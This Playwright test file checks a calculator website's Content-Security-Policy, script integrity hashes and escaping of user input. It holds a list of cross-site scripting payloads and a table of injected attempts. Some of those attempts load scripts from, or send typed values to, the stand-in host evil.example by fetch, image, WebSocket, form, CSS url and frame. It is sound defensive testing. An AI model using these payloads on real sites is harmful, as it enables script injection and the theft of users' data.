// What the content policy of the pages allows is all that they do, and what it forbids does not happen.
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import path from "node:path";

import type { Page } from "@playwright/test";

import { filesUnder } from "../scripts/lib/files.mjs";
import { kindAt, kinds } from "../scripts/lib/hosting/answers.mjs";
import { atRest } from "./support/at-rest";
import { CalculatorPage } from "./support/calculator-page";
import { calculators } from "./support/contract";
import { fragmentOf } from "./support/draft";
import { rootPath } from "./support/root-path";
import { sampled } from "./support/sample";
import { validDraft } from "./support/spec-examples";
import { bring, stateNames } from "./support/states";
import { expect, test } from "./support/test";

/** Violations are errors of the console, which fail every test of this suite; here they are named. */
async function nameViolations(page: Page) {
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { effectiveDirective, blockedURI, sample, sourceFile } = event;
      throw new Error(`blocked: ${effectiveDirective} ${blockedURI} ${sample} ${sourceFile}`);
    });
  });
}

test.describe("as the export has it", () => {
  const out = rootPath("out");
  const pages = readdirSync(out, { recursive: true, encoding: "utf8" })
    .filter((file) => file.endsWith(".html"))
    .map((file) => ({ file, html: readFileSync(path.join(out, file), "utf8") }));

  const sha = (algorithm: string, content: string | Buffer) =>
    `${algorithm}-${createHash(algorithm).update(content).digest("base64")}`;

  test("every page names every script and style that is written in it, and no other host", () => {
    expect(pages.length).toBeGreaterThan(calculators.length);
    for (const { file, html } of pages) {
      const [, before, policy = ""] =
        /^<!DOCTYPE html><html[^>]*><head>(.*?)<meta http-equiv="Content-Security-Policy" content="([^"]+)"\/><script>/s.exec(
          html,
        ) ?? [];
      expect(before, file).toBe('<meta charSet="utf-8"/>');
      const written = [...html.matchAll(/<(script|style)\b([^>]*)>(.*?)<\/\1>/gs)]
        .filter(([, , attributes = ""]) => !/ src=|ld\+json/.test(attributes))
        .map(([, , , text = ""]) => `'${sha("sha256", text)}'`);
      expect(written.length, file).toBeGreaterThan(3);
      for (const hash of written) expect(policy, file).toContain(hash);
      expect(policy, file).toContain("default-src 'none'; script-src 'self' 'sha256-");
      expect(policy, file).not.toMatch(/unsafe|nonce-|strict-dynamic|connect-src|https?:|\*|data:/);
    }
  });

  test("whatever is no page has a host that keeps it from loading and running anything", () => {
    const others = filesUnder(out)
      .map((file) => `/${file}`)
      // What the host reads itself it gives to nobody; the worker makes pages of what it keeps.
      .filter((file) => !/\.html$|^\/_(headers|redirects)$|^\/offline\//.test(file));
    expect(others.length).toBeGreaterThan(200);
    for (const file of others)
      expect(kinds[kindAt(file)]["Content-Security-Policy"], file).toContain("default-src 'none'");
  });

  test("every script element with an address says what the file contains", () => {
    for (const { file, html } of pages) {
      const named = [...html.matchAll(/<(script|link)\b[^>]*>/g)]
        .map(([tag]) => tag)
        .filter((tag) => /^<script[^>]* src=| as="script"/.test(tag));
      expect(named.length, file).toBeGreaterThan(0);
      for (const tag of named) {
        const [, address = ""] = / (?:src|href)="([^"]+)"/.exec(tag) ?? [];
        const integrity = sha("sha256", readFileSync(path.join(out, address)));
        expect(tag, file).toContain(` integrity="${integrity}"`);
      }
    }
  });
});

test("a picture or a text that somebody opens by itself is kept from nothing", async ({ page }) => {
  await nameViolations(page);
  for (const address of ["/icon.svg", "/og/home.png", "/robots.txt"]) {
    const answer = await page.goto(address);
    expect(answer?.headers()["content-security-policy"], address).toContain("default-src 'none'");
  }
});

test.describe("where there is no page", () => {
  test.use({ expectedMessages: /status of 404/ });

  test("the one in its place is kept from nothing", async ({ page }) => {
    await nameViolations(page);
    for (const address of ["/no-such-page", "/blog/no-such-post"]) {
      await page.goto(address);
      await atRest(page);
      await expect(page.locator("h1")).toBeVisible();
    }
  });
});

// The longest tables make the longest files.
const id = calculators.find(({ schedule }) => schedule)?.id ?? "";

test(`${id}: no state of it is kept from anything`, async ({ page }) => {
  test.setTimeout(120_000);
  await nameViolations(page);
  const calculator = new CalculatorPage(page, id);
  for (const state of stateNames) await bring(calculator, state);

  await calculator.openLink(fragmentOf(validDraft(id)));
  for (const name of ["Save CSV", "Spreadsheet"]) {
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      calculator.result.getByRole("button", { name }).click(),
    ]);
    expect((await readFile(await file.path())).length).toBeGreaterThan(100);
  }
  await page.pdf({ format: "Letter" });
  await page.emulateMedia({ colorScheme: "dark" });

  const search = page.getByRole("banner").getByRole("button", { name: "Search", exact: true });
  await search.click();
  // A form may have others.
  await expect(page.getByRole("dialog").getByRole("combobox")).toBeFocused();
  await page.keyboard.type("mortgage");
  await expect(page.getByRole("dialog").getByRole("option").first()).toBeVisible();
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByRole("button", { name: "Menu", exact: true }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  // A link that is pressed was prepared by the speculation rules.
  await page.getByRole("dialog").getByRole("link", { name: "About" }).click();
  await expect(page).toHaveURL("/about");
});

/** What would leave a mark on the page if it ran or were read as markup. */
const marks = [
  `<img src=x onerror="document.documentElement.dataset.marked=1">`,
  `"><script>document.documentElement.dataset.marked=1</script>`,
  `'-(document.documentElement.dataset.marked=1)-'`,
  `javascript:document.documentElement.dataset.marked=1`,
  `</textarea></title><svg onload="document.documentElement.dataset.marked=1">`,
  "${document.documentElement.dataset.marked=1}{{constructor.constructor('alert(1)')()}}",
];

async function expectUnmarked(page: Page) {
  await expect(page.locator("html")).not.toHaveAttribute("data-marked");
  await expect(page.locator("img[src=x], [onerror], [onload]")).toHaveCount(0);
  await expect(page.locator("script", { hasText: "dataset.marked" })).toHaveCount(0);
}

for (const { id, boxes } of sampled("policy links", calculators)) {
  test(`${id}: markup and code in a link stay text`, async ({ page }) => {
    test.setTimeout(120_000);
    const calculator = new CalculatorPage(page, id);
    await calculator.open();
    for (const mark of marks) {
      const draft = Object.fromEntries(
        boxes
          .filter(({ kind }) => !["select", "toggle", "date"].includes(kind))
          .map(({ name }) => [name, mark]),
      );
      await calculator.follow(fragmentOf({ ...draft, [mark]: mark }));
      expect(await calculator.values(), mark).toMatchObject(draft);
      await expectUnmarked(page);
      await calculator.setHash(mark);
      await expectUnmarked(page);
    }
  });
}

test("markup and code in the names of rows stay text, wherever the result says them", async ({
  page,
}) => {
  const calculator = new CalculatorPage(page, "personal-finance/spending-tracker");
  const [list = ""] = (calculators.find(({ id }) => id === calculator.id)?.first ?? "").split(".");
  const draft = Object.fromEntries(
    marks.flatMap((mark, row) => [
      [`${list}.${row}.description`, mark],
      [`${list}.${row}.amount`, `${100 + row}`],
    ]),
  );
  await calculator.openLink(fragmentOf(draft));
  for (const mark of marks)
    await expect(calculator.result.getByText(mark).first(), mark).toBeAttached();
  await expectUnmarked(page);
});

test.describe("what had found a way in", () => {
  // Each attempt is told to the console. The browser itself has to refuse a worker, not the tests.
  test.use({ expectedMessages: /./, serviceWorkers: "allow" });

  const attempts: Record<string, () => unknown> = {
    "markup from text": () => {
      document.body.innerHTML = "<b>text</b>";
    },
    "markup from text, beside": () => document.body.insertAdjacentHTML("beforeend", "<b>text</b>"),
    "a document from text": () => new DOMParser().parseFromString("<b>text</b>", "text/html"),
    "a script of text": () => {
      const script = document.createElement("script");
      script.textContent = "document.documentElement.dataset.marked = 1";
      document.body.append(script);
    },
    "a script of another host": () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/a.js";
      document.body.append(script);
    },
    "an own file that is no chunk": () => {
      const script = document.createElement("script");
      script.src = "/calculators.json";
      document.body.append(script);
    },
    "a worker of another file": () => navigator.serviceWorker.register("/llms.txt"),
    "a handler in an attribute": () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "document.documentElement.dataset.marked = 1");
      image.src = "/nothing";
      document.body.append(image);
    },
    "a picture that tells another host": () => {
      new Image().src = "https://evil.example/?typed=350000";
    },
    "a message to another host": () => fetch("https://evil.example/", { method: "POST" }),
    "a message to the site itself": () => fetch("/robots.txt?typed=350000"),
    "a beacon": () => navigator.sendBeacon("/typed", "350000"),
    "a socket": () => new WebSocket("wss://evil.example/"),
    "a form that is sent": () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      form.method = "post";
      document.body.append(form);
      form.submit();
    },
    "a frame": () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    },
    "another base for the links": () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    },
    "a style of its own": () => {
      const style = document.createElement("style");
      style.textContent = "form { background: url(https://evil.example/typed) }";
      document.head.append(style);
    },
    "a link that is code": () => {
      location.href = "javascript:document.documentElement.dataset.marked=1";
    },
    "trusted types of its own": () =>
      (
        window as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => void };
        }
      ).trustedTypes.createPolicy("mine", {}),
  };

  test("is kept from running, from sending and from changing where links lead", async ({
    page,
    context,
  }) => {
    const sent: string[] = [];
    // Where a request had left the page, it would have been answered.
    await context.route("https://evil.example/**", async (route) => {
      sent.push(route.request().url());
      await route.fulfill({ body: "" });
    });
    await page.goto("/about");
    for (const [name, attempt] of Object.entries(attempts)) {
      const violation = page.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener(
              "securitypolicyviolation",
              ({ effectiveDirective }) => resolve(effectiveDirective),
              { once: true },
            ),
          ),
      );
      await page.evaluate(attempt).catch(() => undefined);
      expect.soft(await violation, name).not.toBe("");
      const marked = await page.evaluate(() => document.documentElement.dataset.marked);
      expect.soft(marked, name).toBeUndefined();
    }
    expect(sent).toEqual([]);
  });
});
